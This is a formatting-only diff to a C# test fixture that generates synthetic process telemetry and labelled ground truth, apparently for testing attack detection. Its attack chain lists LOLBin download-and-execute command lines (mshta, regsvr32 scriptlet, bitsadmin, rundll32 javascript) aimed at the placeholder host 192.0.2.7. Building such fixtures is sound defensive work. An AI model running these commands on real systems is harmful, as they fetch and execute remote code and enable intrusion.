@@ -17,7 +17,9 @@ internal static class ClusterHistory
         ("mshta.exe", "mshta http://192.0.2.7/a.hta"),
         ("regsvr32.exe", "regsvr32 /s /n /u /i:http://192.0.2.7/a.sct scrobj.dll"),
         ("bitsadmin.exe", @"bitsadmin /transfer a /download /priority high http://192.0.2.7/a.exe C:\Users\Public\b.exe"),
-        ("rundll32.exe", @"rundll32 javascript:""\..\mshtml,RunHTMLApplication "";document.write();GetObject(""script:http://192.0.2.7/a.sct"")"),
+        (
+            "rundll32.exe",
+            @"rundll32 javascript:""\..\mshtml,RunHTMLApplication "";document.write();GetObject(""script:http://192.0.2.7/a.sct"")"),
     ];
 
     /// <summary>Launches of the attack.</summary>
@@ -27,7 +29,9 @@ internal static class ClusterHistory
     public static byte[] Truth() => Encoding.UTF8.GetBytes(string.Join('\n', Attack.Select((_, i) => JsonSerializer.Serialize(
         new { time = AttackAt(i), chain = Chain, identity = $"sysmon-1|ws-bad|{GuidOf(i)}", label = 1 }))));
 
-    /// <summary>Eight hosts at work for three hours; after half of it, six messages of theirs each hold a launch of another host besides.</summary>
+    /// <summary>
+    /// Eight hosts at work for three hours; after half of it, six messages of theirs each hold a launch of another host besides.
+    /// </summary>
     public static byte[] Events()
     {
         var lines = new List<(DateTimeOffset Time, byte[] Body)>();
@@ -49,7 +53,14 @@ internal static class ClusterHistory
         return [.. "["u8, .. lines.OrderBy(l => l.Time).SelectMany((l, i) => i == 0 ? l.Body : [(byte)',', .. l.Body]), (byte)']'];
     }
 
-    private static byte[] Usual(int host, DateTimeOffset at) => Telemetry.Record("services.exe", "svchost.exe", "svchost -k netsvcs", at, $"{{00000000-0000-0000-{host:d4}-{at.ToUnixTimeSeconds():d12}}}", $"ws-{host}");
+    private static byte[] Usual(int host, DateTimeOffset at) =>
+        Telemetry.Record(
+            "services.exe",
+            "svchost.exe",
+            "svchost -k netsvcs",
+            at,
+            $"{{00000000-0000-0000-{host:d4}-{at.ToUnixTimeSeconds():d12}}}",
+            $"ws-{host}");
 
     private static DateTimeOffset AttackAt(int step) => Begin.AddMinutes(91).AddSeconds((20 * step) + 0.5);
 
